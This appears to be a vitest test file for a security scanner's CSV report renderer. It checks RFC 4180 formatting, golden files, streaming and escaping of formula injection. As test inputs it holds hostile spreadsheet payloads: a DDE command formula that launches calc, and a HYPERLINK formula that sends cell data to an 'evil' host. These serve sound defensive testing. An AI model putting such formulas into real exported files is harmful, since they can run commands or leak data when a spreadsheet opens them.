// `--format csv`: RFC 4180 with CRLF and a UTF-8 BOM, formula-injection safe as OWASP's "CSV
// Injection" page says, parsed back with csv-parse, goldens over the lab (per target and
// --csv-findings), one report, a partial and a failed scan, and streaming one row per report.
// Regenerate the goldens with UPDATE_GOLDEN=1 (and read the diff).
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import type { Report } from '../../src/model/report.js';
import { byHost, expectGolden, failedReport, GOLDEN_OPTS, LAB, partialReport } from '../helpers/lab-reports.js';
import { csvCell, csvRow } from '../../src/render/csv.js';
import { csvRenderer, FINDING_COLUMNS, TARGET_COLUMNS, UTF8_BOM } from '../../src/render/csv-report.js';
import { rendererById, rendererForFile } from '../../src/render/index.js';
import { renderToString, type RenderOptions, type ReportSource } from '../../src/render/renderer.js';

const OPTS = GOLDEN_OPTS;
const render = (reports: Report[], opts: Partial<RenderOptions> = {}) => renderToString(csvRenderer, reports, { ...OPTS, ...opts });

const golden = (name: string, actual: string): void => expectGolden('csv', name, actual);

/** The file as a spreadsheet program or a script reads it (BOM skipped, RFC 4180 quoting). */
const parsed = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false }) as string[][];

/** RFC 4180 and our own promises: a BOM, CRLF after every record, no bare LF or CR outside quotes. */
function expectWellFormed(csv: string, columns: number): string[][] {
  expect(csv.startsWith(UTF8_BOM)).toBe(true);
  expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(csv.endsWith('\r\n')).toBe(true);
  // Our rows are flattened to one line, so every line break is a record's CRLF.
  expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  const rows = parsed(csv);
  for (const row of rows) expect(row).toHaveLength(columns);
  return rows;
}

describe('CSV cells (RFC 4180, OWASP CSV Injection)', () => {
  // OWASP: no cell may begin with = + - @, tab (0x09), CR (0x0D), LF (0x0A) or the full-width
  // ＝ ＋ － ＠; such a cell gets a leading apostrophe. Quoting follows RFC 4180 only.
  it.each([
    ['=1+2', "'=1+2"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=x', "'\t=x"],
    ['\r=x', `"'\r=x"`],
    ['\n=x', `"'\n=x"`],
    ['＝1+2', "'＝1+2"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['-1', "'-1"],
    // OWASP's own examples.
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    // Not on OWASP's list: left as they are.
    [' =1+2', ' =1+2'],
    ["'=1", "'=1"],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('a number stays a number, negative or not; null and undefined are empty cells', () => {
    expect(csvRow([-1, 0, 2.5, null, undefined, true])).toBe('-1,0,2.5,,,true\r\n');
  });

  it('quotes, commas and line breaks are quoted, and csv-parse reads every cell back as written', () => {
    const values = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rlf\r\n', '"', ',', 'ünïcödé — ✓', '=HYPERLINK("http://x","y")', '@x,"y"'];
    const row = csvRow(values);
    const [back] = parse(row) as string[][];
    expect(back).toEqual(values.map((v) => (/^[=+\-@\t\r\n]/.test(v) ? `'${v}` : v)));
  });
});

describe('csv renderer', () => {
  it('is registered for --format csv and .csv files', () => {
    expect(rendererById('csv')).toBe(csvRenderer);
    expect(rendererForFile('fleet.CSV')).toBe(csvRenderer);
  });

  it('golden: the lab, one row per target', async () => {
    const csv = await render(LAB);
    golden('lab.csv', csv);
    const rows = expectWellFormed(csv, TARGET_COLUMNS.length);
    expect(rows[0]).toEqual([...TARGET_COLUMNS]);
    expect(rows).toHaveLength(LAB.length + 1);
    const legacy = rows.find((r) => r[0] === 'legacy.secgrade.test')!;
    const col = (name: (typeof TARGET_COLUMNS)[number]) => legacy[TARGET_COLUMNS.indexOf(name)];
    expect([col('overall'), col('tls'), col('http'), col('email')]).toEqual(['F', 'B', 'F', 'F']);
    expect(col('protocols')).toBe('TLSv1.2 TLSv1.1 TLSv1.0');
    expect(col('ip')).toBe('127.0.0.1');
    expect(col('cert_not_after')).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    // The counts are every finding's, whatever --severity says.
    const counts = ['critical', 'high', 'medium', 'low', 'info'].map((s) => Number(legacy[TARGET_COLUMNS.indexOf(s as never)]));
    expect(counts.reduce((a, b) => a + b)).toBe(byHost('legacy.secgrade.test').findings.length);
  });

  it('golden: the lab with --csv-findings, one row per finding', async () => {
    const csv = await render(LAB, { csvFindings: true });
    golden('lab-findings.csv', csv);
    const rows = expectWellFormed(csv, FINDING_COLUMNS.length);
    expect(rows[0]).toEqual([...FINDING_COLUMNS]);
    expect(rows).toHaveLength(1 + LAB.reduce((n, r) => n + r.findings.length, 0));
    // Evidence is one line of JSON, readable back as the finding's evidence.
    const first = LAB[0]!.findings.find((f) => f.id === rows[1]![1] && f.subject === rows[1]![2])!;
    expect(JSON.parse(rows[1]![6]!)).toEqual(first.evidence);
  });

  it('--severity filters the finding rows (not the per-target counts)', async () => {
    const r = byHost('legacy.secgrade.test');
    const rows = parsed(await render([r], { csvFindings: true, minSeverity: 'medium' }));
    expect(rows.slice(1).map((x) => x[3])).toEqual(Array(r.findings.filter((f) => f.severity === 'medium').length).fill('medium'));
    expect(await render([r], { minSeverity: 'critical' })).toBe(await render([r]));
  });

  it('golden: one report alone, both modes', async () => {
    golden('single-good.csv', await render([byHost('good.secgrade.test')]));
    golden('single-good-findings.csv', await render([byHost('good.secgrade.test')], { csvFindings: true }));
  });

  it('golden: a partial and a failed scan keep their status, untested grades, error kinds and a status row', async () => {
    const partial = partialReport();
    const failed = failedReport('=cmd|"/c calc"!A1, SERVFAIL');
    const targets = await render([partial, failed]);
    golden('partial-failed.csv', targets);
    const rows = expectWellFormed(targets, TARGET_COLUMNS.length);
    const at = (row: string[], name: (typeof TARGET_COLUMNS)[number]) => row[TARGET_COLUMNS.indexOf(name)];
    expect([at(rows[1]!, 'status'), at(rows[1]!, 'overall'), at(rows[1]!, 'email'), at(rows[1]!, 'errors')]).toEqual(['partial', 'not graded', 'not tested', 'timeout']);
    expect([at(rows[2]!, 'status'), at(rows[2]!, 'overall'), at(rows[2]!, 'tls'), at(rows[2]!, 'ip'), at(rows[2]!, 'errors')]).toEqual(['error', 'not tested', 'not tested', '', 'dns']);

    const findings = await render([partial, failed], { csvFindings: true });
    golden('partial-failed-findings.csv', findings);
    const frows = expectWellFormed(findings, FINDING_COLUMNS.length);
    // Each incomplete scan leads its rows with a row that says so (no finding id).
    expect(frows[1]!.slice(0, 6)).toEqual(['mail.secgrade.test', '', '', '', 'partial', 'scan partial: the email checks ran out of time (not tested: email-mx mx:mx1.mail.secgrade.test: timeout after 10 s)']);
    const failedRow = frows.find((r) => r[0] === 'good.secgrade.test')!;
    expect(failedRow[5]).toBe('scan failed: =cmd|"/c calc"!A1, SERVFAIL');
    expect(findings).toContain('"scan failed: =cmd|""/c calc""!A1, SERVFAIL"');
  });

  it('a hostile finding cannot start a formula or break a row', async () => {
    const r = byHost('good.secgrade.test');
    r.findings = [
      { ...r.findings[0]!, title: '=HYPERLINK("http://evil/?"&A1,"x")', remediation: '-cmd\r\nnext line', references: ['@SUM(1)'], evidence: { v: '=1', nl: 'a\nb' } },
    ];
    r.target.host = '+evil.example';
    const csv = await render([r], { csvFindings: true });
    const rows = expectWellFormed(csv, FINDING_COLUMNS.length);
    for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(rows[1]![0]).toBe("'+evil.example");
    expect(rows[1]![5]).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
    expect(rows[1]![7]).toBe("'-cmd next line");
    expect(rows[1]![8]).toBe("'@SUM(1)");
    expect(JSON.parse(rows[1]![6]!)).toEqual({ v: '=1', nl: 'a\nb' });
  });

  it('streams: the header before any report is read, then one chunk per report as it comes, one pass', async () => {
    let passes = 0;
    const seen: string[] = [];
    const source: ReportSource = async function* () {
      passes++;
      for (const r of LAB.slice(0, 3)) {
        seen.push(`read ${r.target.host}`);
        yield r;
      }
    };
    for await (const chunk of csvRenderer.stream!(source, OPTS)) seen.push(chunk.startsWith(UTF8_BOM) ? 'header' : `row ${chunk.split(',')[0]}`);
    expect(passes).toBe(1);
    expect(seen).toEqual([
      'header',
      ...LAB.slice(0, 3).flatMap((r) => [`read ${r.target.host}`, `row ${r.target.host}`]),
    ]);
  });

  it('no targets: the header alone', async () => {
    expect(await render([])).toBe(UTF8_BOM + csvRow(TARGET_COLUMNS));
  });
});
